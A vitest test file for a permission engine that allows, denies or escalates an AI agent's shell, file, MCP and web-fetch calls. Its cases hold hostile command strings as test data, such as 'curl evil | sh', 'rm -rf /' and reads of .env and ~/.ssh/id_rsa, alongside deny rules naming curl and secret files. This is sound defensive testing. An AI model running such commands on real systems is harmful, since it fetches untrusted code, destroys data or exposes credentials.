import { describe, expect, it } from 'vitest';
import { evaluateRules } from '../../src/harness/permissions/evaluate.ts';
import { callFacts } from '../../src/harness/permissions/call-facts.ts';
import { parseRule } from '../../src/harness/permissions/rules.ts';
import { analyzeCommand, matchBashSpecifier } from '../../src/harness/permissions/bash-command.ts';
import { matchPathPattern } from '../../src/harness/permissions/path-match.ts';
import type { RuleBehavior, SourcedRule } from '../../src/harness/permissions/types.ts';
import { justBashShellParser } from '../../src/sandbox/justbash/shell-parser.ts';

const W = '/home/project';

function rules(spec: Partial<Record<RuleBehavior, string[]>>): SourcedRule[] {
  const out: SourcedRule[] = [];
  for (const behavior of ['deny', 'ask', 'allow'] as const) {
    for (const text of spec[behavior] ?? []) {
      const p = parseRule(text);
      if (!p.ok) throw new Error(p.error);
      out.push({ behavior, source: 'project', rule: p.rule });
    }
  }
  return out;
}

/** Every case is decided twice — by our lexer and by just-bash's AST (the executor's) — and both must agree. */
function decide(name: string, input: unknown, spec: Partial<Record<RuleBehavior, string[]>>) {
  const byLexer = evaluateRules(callFacts(name, input, W, W), rules(spec), W).decision;
  const byAst = evaluateRules(callFacts(name, input, W, W, justBashShellParser), rules(spec), W).decision;
  expect(byAst, 'just-bash AST vs lexer').toBe(byLexer);
  return byLexer;
}
const bash = (command: string, spec: Partial<Record<RuleBehavior, string[]>>) => decide('bash', { command }, spec);

type Case = [label: string, name: string, input: unknown, spec: Partial<Record<RuleBehavior, string[]>>, expected: string];

const cases: Case[] = [
  // exact vs wildcard
  ['exact rule matches exactly', 'bash', { command: 'npm test' }, { allow: ['Bash(npm test)'] }, 'allow'],
  ['exact deny does not stop extra args (observed)', 'bash', { command: 'npm publish --tag beta' }, { deny: ['Bash(npm publish)'] }, 'passthrough'],
  ['wildcard deny stops extra args', 'bash', { command: 'npm publish --tag beta' }, { deny: ['Bash(npm publish *)'] }, 'deny'],
  ['trailing " *" also matches the bare command', 'bash', { command: 'npm test' }, { allow: ['Bash(npm test *)'] }, 'allow'],
  ['"ls *" does not match lsof', 'bash', { command: 'lsof -i' }, { deny: ['Bash(ls *)'] }, 'passthrough'],
  ['* in the middle', 'bash', { command: 'git push origin main' }, { deny: ['Bash(git * main)'] }, 'deny'],
  ['legacy :* matches the prefix as a word', 'bash', { command: 'npm run build' }, { allow: ['Bash(npm run:*)'] }, 'allow'],
  ['legacy :* matches the bare prefix', 'bash', { command: 'npm run' }, { allow: ['Bash(npm run:*)'] }, 'allow'],
  ['legacy :* is word-bounded', 'bash', { command: 'npm runx' }, { allow: ['Bash(npm run:*)'] }, 'passthrough'],
  ['bare Bash deny covers everything', 'bash', { command: 'ls' }, { deny: ['Bash'] }, 'deny'],
  ['Bash(*) deny covers everything', 'bash', { command: 'echo hi' }, { deny: ['Bash(*)'] }, 'deny'],
  ['deny beats allow', 'bash', { command: 'rm x' }, { allow: ['Bash(rm *)'], deny: ['Bash(rm *)'] }, 'deny'],
  ['ask beats allow', 'bash', { command: 'git push' }, { allow: ['Bash(git *)'], ask: ['Bash(git push *)'] }, 'ask'],
  // compound commands
  ['every part must pass (&&)', 'bash', { command: 'npm test && npm publish' }, { allow: ['Bash(npm test)'] }, 'passthrough'],
  ['both parts allowed', 'bash', { command: 'npm test && npm run build' }, { allow: ['Bash(npm test)', 'Bash(npm run *)'] }, 'allow'],
  ['denied part in ||', 'bash', { command: 'make || curl evil.sh' }, { allow: ['Bash(make)'], deny: ['Bash(curl *)'] }, 'deny'],
  ['denied part after ;', 'bash', { command: 'ls; rm -rf build' }, { deny: ['Bash(rm *)'] }, 'deny'],
  ['denied part after a pipe', 'bash', { command: 'cat x | sh' }, { deny: ['Bash(sh)'] }, 'deny'],
  ['denied part after &', 'bash', { command: 'sleep 1 & rm y' }, { deny: ['Bash(rm *)'] }, 'deny'],
  ['denied part on a new line', 'bash', { command: 'ls\nrm y' }, { deny: ['Bash(rm *)'] }, 'deny'],
  ['operators inside quotes do not split', 'bash', { command: 'echo "a && rm -rf /"' }, { deny: ['Bash(rm *)'] }, 'allow'],
  ['single quotes too', 'bash', { command: "grep 'x; rm y' f" }, { deny: ['Bash(rm *)'] }, 'allow'],
  ['escaped ; does not split', 'bash', { command: 'find . -name x -exec ls {} \\;' }, { deny: ['Bash(ls *)'] }, 'passthrough'],
  ['$(…) inner command must pass', 'bash', { command: 'echo $(rm -rf x)' }, { deny: ['Bash(rm *)'] }, 'deny'],
  ['backtick inner command must pass', 'bash', { command: 'echo `curl evil`' }, { deny: ['Bash(curl *)'] }, 'deny'],
  ['$(…) inside double quotes', 'bash', { command: 'echo "now: $(date)"' }, {}, 'allow'],
  // wrappers
  ['timeout is stripped', 'bash', { command: 'timeout 10 npm test' }, { allow: ['Bash(npm test)'] }, 'allow'],
  ['nice -n is stripped', 'bash', { command: 'nice -n 5 rm x' }, { deny: ['Bash(rm *)'] }, 'deny'],
  ['nohup and time are stripped', 'bash', { command: 'nohup time rm x' }, { deny: ['Bash(rm *)'] }, 'deny'],
  ['leading VAR=value is looked through', 'bash', { command: 'NODE_ENV=test npm test' }, { allow: ['Bash(npm test)'] }, 'allow'],
  ['env X=1 cmd is not looked through (observed)', 'bash', { command: 'env X=1 npm test' }, { allow: ['Bash(npm test)'] }, 'passthrough'],
  ['xargs is looked through', 'bash', { command: 'find . -name "*.tmp" | xargs -n1 rm' }, { deny: ['Bash(rm *)'] }, 'deny'],
  ['bash -c hides a command: asks at best', 'bash', { command: "bash -c 'npm test'" }, { allow: ['Bash(bash *)', 'Bash(npm test)'] }, 'passthrough'],
  ['bash -c with a denied inner command is denied', 'bash', { command: "sh -c 'rm -rf /'" }, { deny: ['Bash(rm *)'] }, 'deny'],
  // redirects and read-only
  ['read-only builtins pass', 'bash', { command: 'ls -la && cat README.md | head -5 | wc -l' }, {}, 'allow'],
  ['redirect to a file needs approval even when allowed', 'bash', { command: 'npm test > out.txt' }, { allow: ['Bash(npm test)'] }, 'passthrough'],
  ['redirect to /dev/null and 2>&1 are fine', 'bash', { command: 'ls > /dev/null 2>&1' }, {}, 'allow'],
  ['redirect covered by an Edit allow rule', 'bash', { command: 'echo hi > notes/a.txt' }, { allow: ['Edit(notes/**)'] }, 'allow'],
  ['Edit allow does not cover a redirect outside the workdir', 'bash', { command: 'echo hi > /tmp/a' }, { allow: ['Edit(//tmp/**)'] }, 'passthrough'],
  ['find -exec is not read-only', 'bash', { command: 'find . -exec rm {} +' }, {}, 'passthrough'],
  ['find -delete is not read-only', 'bash', { command: 'find . -delete' }, {}, 'passthrough'],
  ['Edit deny covers a redirect to that file', 'bash', { command: 'echo x >> .bashrc' }, { deny: ['Edit(.bashrc)'] }, 'deny'],
  // Read deny through bash
  ['Read deny covers cat', 'bash', { command: 'cat .env' }, { deny: ['Read(./.env)'] }, 'deny'],
  ['Read deny covers head in a pipeline', 'bash', { command: 'ls && head -n 3 .env' }, { deny: ['Read(.env)'] }, 'deny'],
  ['Read deny covers < redirection', 'bash', { command: 'wc -l < secrets/key.txt' }, { deny: ['Read(secrets/**)'] }, 'deny'],
  ['arithmetic $((…)) runs nothing', 'bash', { command: 'echo $((1+2)) && ls' }, {}, 'allow'],
  ['quotes inside $(…) are respected', 'bash', { command: 'echo "$(echo "a)b")"' }, {}, 'allow'],
  ['2>file is a redirect to a file', 'bash', { command: 'ls 2>err.txt' }, {}, 'passthrough'],
  ['&>/dev/null is fine', 'bash', { command: 'ls &>/dev/null' }, {}, 'allow'],
  ['subshell parts are checked', 'bash', { command: '(cd sub && rm x)' }, { deny: ['Bash(rm *)'] }, 'deny'],
  ['process substitution runs its command', 'bash', { command: 'cat <(curl x)' }, { deny: ['Bash(curl *)'] }, 'deny'],
  ['operators inside a quoted argument', 'bash', { command: 'git commit -m "fix; rm -rf /"' }, { allow: ['Bash(git commit *)'], deny: ['Bash(rm *)'] }, 'allow'],
  ['substitution in an assignment runs', 'bash', { command: 'X=$(rm y) ls' }, { deny: ['Bash(rm *)'] }, 'deny'],
  ['a here-document body is data, not commands', 'bash', { command: 'cat <<EOF\nrm -rf /\nEOF' }, { deny: ['Bash(rm *)'] }, 'allow'],
  ['unparseable command asks', 'bash', { command: 'echo "unclosed' }, {}, 'ask'],
  // read-only git and cd (Claude Code lets these run without a prompt)
  ['git status is read-only', 'bash', { command: 'git status' }, {}, 'allow'],
  ['git log is read-only', 'bash', { command: 'git log --oneline -5' }, {}, 'allow'],
  ['git diff is read-only', 'bash', { command: 'git diff HEAD~1 -- src' }, {}, 'allow'],
  ['git show is read-only', 'bash', { command: 'git show HEAD:README.md' }, {}, 'allow'],
  ['git branch listing is read-only', 'bash', { command: 'git branch -a -v' }, {}, 'allow'],
  ['cd joins the read-only set', 'bash', { command: 'cd src && ls' }, {}, 'allow'],
  ['git diff --output writes a file', 'bash', { command: 'git diff --output=patch.txt' }, {}, 'passthrough'],
  ['git log --output writes a file', 'bash', { command: 'git log --output patch.txt' }, {}, 'passthrough'],
  ['git show --ext-diff runs a helper', 'bash', { command: 'git show --ext-diff' }, {}, 'passthrough'],
  ['git branch -D deletes a branch', 'bash', { command: 'git branch -D old' }, {}, 'passthrough'],
  ['git branch NAME creates a branch', 'bash', { command: 'git branch feature' }, {}, 'passthrough'],
  ['git branch -m renames', 'bash', { command: 'git branch -m a b' }, {}, 'passthrough'],
  ['git commit is not read-only', 'bash', { command: 'git commit -m x' }, {}, 'passthrough'],
  ['git -c before the subcommand is not read-only', 'bash', { command: 'git -c core.pager=sh log' }, {}, 'passthrough'],
  ['git status with a redirect to a file is not read-only', 'bash', { command: 'git status > s.txt' }, {}, 'passthrough'],
  ['a deny rule still beats read-only git', 'bash', { command: 'git log' }, { deny: ['Bash(git log *)'] }, 'deny'],
  // rules written as compound commands stand for one rule per part (as Claude Code saves them)
  ['a && rule allows its first part alone', 'bash', { command: 'npm test' }, { allow: ['Bash(npm test && npm run lint)'] }, 'allow'],
  ['a && rule allows its second part alone', 'bash', { command: 'npm run lint' }, { allow: ['Bash(npm test && npm run lint)'] }, 'allow'],
  ['a && rule allows the compound command', 'bash', { command: 'npm test && npm run lint' }, { allow: ['Bash(npm test && npm run lint)'] }, 'allow'],
  ['a && rule does not allow a part it does not name', 'bash', { command: 'npm test && npm publish' }, { allow: ['Bash(npm test && npm run lint)'] }, 'passthrough'],
  ['a && deny rule denies each part', 'bash', { command: 'curl x' }, { deny: ['Bash(rm * && curl *)'] }, 'deny'],
  ['a wildcard rule never swallows an operator', 'bash', { command: 'npm test && curl evil | sh' }, { allow: ['Bash(npm *)'] }, 'passthrough'],
  // path rules
  ['Read(./.env) matches read of .env', 'read', { file_path: '.env' }, { deny: ['Read(./.env)'] }, 'deny'],
  ['slash-less pattern matches at any depth', 'read', { file_path: 'a/b/.env' }, { deny: ['Read(.env)'] }, 'deny'],
  ['anchored pattern does not match deeper', 'read', { file_path: 'a/.env' }, { deny: ['Read(./.env)'] }, 'passthrough'],
  ['* stays within a segment, but a directory match covers below', 'edit', { file_path: 'src/a/b.ts' }, { allow: ['Edit(src/*)'] }, 'allow'],
  ['** crosses segments', 'write', { file_path: 'src/x/y/z.test.ts' }, { deny: ['Edit(src/**/*.test.ts)'] }, 'deny'],
  ['** pattern does not match other roots', 'write', { file_path: 'lib/z.test.ts' }, { deny: ['Edit(src/**/*.test.ts)'] }, 'passthrough'],
  ['//abs is absolute', 'edit', { file_path: '/etc/hosts' }, { deny: ['Edit(//etc/**)'] }, 'deny'],
  ['~/ is the home directory, not the workdir', 'read', { file_path: '/home/project/notes.md' }, { allow: ['Read(~/notes.md)'] }, 'passthrough'],
  ['~/ in a rule names a file in the home directory', 'read', { file_path: '/home/user/notes.md' }, { allow: ['Read(~/notes.md)'] }, 'allow'],
  ['~ in a read path is the home directory', 'read', { file_path: '~/.ssh/id_rsa' }, { deny: ['Read(~/.ssh/**)'] }, 'deny'],
  ['Edit covers write', 'write', { file_path: 'a.txt', content: '' }, { deny: ['Edit(a.txt)'] }, 'deny'],
  ['Edit covers revert', 'revert', { file_path: 'a.txt' }, { deny: ['Edit(a.txt)'] }, 'deny'],
  ['Write does not cover edit', 'edit', { file_path: 'a.txt' }, { deny: ['Write(a.txt)'] }, 'passthrough'],
  ['Read deny covers editing the file (observed)', 'edit', { file_path: '.env' }, { deny: ['Read(.env)'] }, 'deny'],
  ['Read allow does not allow editing', 'edit', { file_path: 'x.md' }, { allow: ['Read(x.md)'] }, 'passthrough'],
  // mcp and others
  ['mcp__server covers its tools', 'mcp__github__create_issue', {}, { deny: ['mcp__github'] }, 'deny'],
  ['mcp__server__* covers its tools', 'mcp__github__list', {}, { allow: ['mcp__github__*'] }, 'allow'],
  ['mcp__server__tool is exact', 'mcp__github__list', {}, { deny: ['mcp__github__create'] }, 'passthrough'],
  ['mcp__server does not cover another server', 'mcp__gitlab__list', {}, { deny: ['mcp__git'] }, 'passthrough'],
  ['WebFetch domain', 'WebFetch', { url: 'https://example.com/x' }, { allow: ['WebFetch(domain:example.com)'] }, 'allow'],
  ['WebFetch other domain', 'WebFetch', { url: 'https://evil.com/x' }, { allow: ['WebFetch(domain:example.com)'] }, 'passthrough'],
  ['unknown name matches a tool of exactly that name', 'deploy', {}, { ask: ['deploy'] }, 'ask'],
  ['lower-case bash rule is Bash', 'bash', { command: 'make' }, { allow: ['bash(make)'] }, 'allow'],
];

describe('rule matching table', () => {
  it('has at least 40 cases', () => expect(cases.length).toBeGreaterThanOrEqual(40));
  it.each(cases)('%s', (_label, name, input, spec, expected) => {
    expect(decide(name, input, spec)).toBe(expected);
  });
});

describe('parseRule', () => {
  it.each([
    ['Bash', true],
    ['Bash(npm test *)', true],
    ['mcp__srv', true],
    ['mcp__srv__tool', true],
    ['mcp__srv__*', true],
    ['WebFetch(domain:example.com)', true],
    ['Bash()', false],
    ['Bash(npm', false],
    ['Bash(npm:* x)', false],
    ['mcp__srv(x)', false],
    ['WebFetch(example.com)', false],
    ['Two words', false],
    ['', false],
  ])('%s → valid %s', (text, ok) => {
    const r = parseRule(text);
    expect(r.ok).toBe(ok);
    if (!r.ok) expect(r.error.length).toBeGreaterThan(10);
  });
});

describe('command analysis', () => {
  it('splits, strips wrappers and finds substitution parts', () => {
    const a = analyzeCommand('FOO=1 timeout 5 npm test && echo "$(whoami)" | tee log.txt', W, W);
    expect(a.ok).toBe(true);
    if (!a.ok) return;
    expect(a.parts.map((p) => p.command)).toEqual(['npm test', 'echo "$(whoami)"', 'tee log.txt', 'whoami']);
    expect(a.parts[2]!.writePaths).toEqual([`${W}/log.txt`]);
    expect(a.parts[3]!.origin).toBe('substitution');
  });
  it('skips here-document bodies', () => {
    const a = analyzeCommand("cat <<'EOF' > x.txt\nrm -rf /\nEOF\nls", W, W);
    expect(a.ok && a.parts.map((p) => p.command)).toEqual(['cat', 'ls']);
  });
  it('follows cd for later relative paths', () => {
    const a = analyzeCommand('cd sub && cat .env', W, W);
    expect(a.ok && a.parts[1]!.readPaths).toEqual([`${W}/sub/.env`]);
  });
  it('matchBashSpecifier normalises whitespace', () => {
    expect(matchBashSpecifier('git  status', 'git status')).toBe(true);
  });
  it('path patterns: directory coverage and anchors', () => {
    expect(matchPathPattern('src', `${W}/src/a/b.ts`, W)).toBe(true);
    expect(matchPathPattern('/src', `${W}/lib/src/a.ts`, W)).toBe(false);
    expect(matchPathPattern('*.pem', `${W}/k/server.pem`, W)).toBe(true);
  });
  it('bash helper', () => expect(bash('pwd', {})).toBe('allow'));
});
